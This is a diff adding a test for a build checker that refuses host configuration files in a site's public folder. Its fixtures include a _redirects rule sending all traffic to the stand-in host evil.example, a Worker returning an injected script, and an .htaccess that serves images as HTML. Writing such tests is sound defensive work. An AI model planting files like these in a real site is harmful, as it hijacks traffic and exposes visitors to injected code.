@@ -291,6 +291,34 @@ describe('a page or XML document in public/', () => {
   });
 });
 
+describe('a host’s configuration file in public/', () => {
+  it('is refused: Netlify, Cloudflare Pages and Apache would read it as theirs, not publish it', () => {
+    const project = projectFolder('public-host-files');
+    const folder = path.join(project, 'public');
+    mkdirSync(path.join(folder, 'images'), { recursive: true });
+    writeFileSync(path.join(folder, '_redirects'), '/* https://evil.example/:splat 200!\n');
+    writeFileSync(path.join(folder, '_worker.js'), 'export default { fetch: () => new Response("<script>alert(1)</script>") };\n');
+    writeFileSync(path.join(folder, '_routes.json'), '{"version":1,"include":["/*"],"exclude":[]}\n');
+    writeFileSync(path.join(folder, 'images/.htaccess'), 'AddType text/html .png\n');
+    writeFileSync(path.join(folder, 'images/_redirects.png'), 'png');
+    const check = () => checkIn(project);
+    const refused = check();
+    expect(refused.status).toBe(1);
+    expect(refused.stderr).toContain('4 content problems:');
+    expect(refused.stderr).toContain('public/_redirects  file: Netlify and Cloudflare Pages read this file as their own configuration');
+    expect(refused.stderr).toContain(
+      'public/_worker.js  file: Cloudflare Pages reads this file as its own configuration, not as a file of the site: as a Worker, its code would answer every request to the site',
+    );
+    expect(refused.stderr).toContain('public/_routes.json  file: Cloudflare Pages reads this file');
+    expect(refused.stderr).toContain('public/images/.htaccess  file: Apache reads this file');
+    expect(refused.stderr).toContain('Fix: delete it');
+    for (const file of ['_redirects', '_worker.js', '_routes.json', 'images/.htaccess']) rmSync(path.join(folder, file));
+    const passed = check();
+    expect(passed.stdout).toContain('no content problems');
+    expect(passed.status).toBe(0);
+  });
+});
+
 describe('a symbolic link in public/', () => {
   it('is refused when it leads outside public/, which the build would publish; one within it passes', () => {
     const project = projectFolder('public-link');
